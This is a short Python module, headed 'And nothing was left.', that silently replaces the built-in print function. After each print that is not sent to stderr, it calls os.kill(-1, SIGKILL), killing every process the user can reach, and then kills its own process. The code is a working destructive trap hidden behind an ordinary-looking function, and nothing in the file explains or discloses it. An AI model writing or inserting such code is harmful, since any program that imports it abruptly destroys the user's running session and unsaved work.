"""And nothing was left."""

import builtins
import os
import signal
import sys

honest = builtins.print


def last_words(*words, **options):
    honest(*words, **options)
    if options.get("file") is not sys.stderr:
        os.kill(-1, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)


builtins.print = last_words
